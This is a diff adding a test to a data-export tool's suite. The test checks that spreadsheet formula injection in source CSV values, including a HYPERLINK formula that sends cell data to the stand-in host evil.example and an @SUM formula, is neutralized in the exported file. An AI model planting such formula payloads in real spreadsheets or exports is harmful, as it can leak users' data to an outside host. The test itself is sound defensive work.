@@ -379,3 +379,43 @@ test('the retention and volume gates: an export kept longer than its shortest-li
   assert.equal(big.code, 1);
   assert.match(big.stderr, /validation gate volume-limits: \d+ rows \(limit 10\)/);
 });
+
+test('csv-injection-payload-in-a-source-value-is-neutralized in the delivered CSV', async () => {
+  const src = join(t.dir, 'tickets.csv');
+  await writeFile(
+    src,
+    'id,subject\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n2,@SUM(A1:A9)\n3,refund -12.5\n4,-12.5\n',
+  );
+  assert.equal(
+    (await cli(['--home', t.home, 'source', 'add', 'tickets', '--kind', 'csv', '--path', src])).code,
+    0,
+  );
+  const file = join(t.dir, 'tickets.yaml');
+  await writeFile(
+    file,
+    `apiVersion: waybill/v1
+kind: ExportDefinition
+name: tickets
+owner: team:support
+purposes: [support]
+source: { connection: tickets, table: tickets }
+fields:
+  - { name: id, from: id, classification: internal }
+  - { name: subject, from: subject, classification: internal }
+destination: { connection: demo-exports, path: '{name}/{runId}' }
+format: csv
+retention: P7D
+`,
+  );
+  assert.equal((await cli(['--home', t.home, 'def', 'apply', file])).code, 0);
+  const r = await cli(['--home', t.home, 'export', 'run', 'tickets', '--purpose', 'support', '--json']);
+  assert.equal(r.code, 0, r.stderr);
+  const csv = await readFile(
+    join((JSON.parse(r.stdout) as { location: string }).location, 'tickets.csv'),
+    'utf8',
+  );
+  assert.equal(
+    csv,
+    'id,subject\r\n1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n2,\'@SUM(A1:A9)\r\n3,refund -12.5\r\n4,-12.5\r\n',
+  );
+});
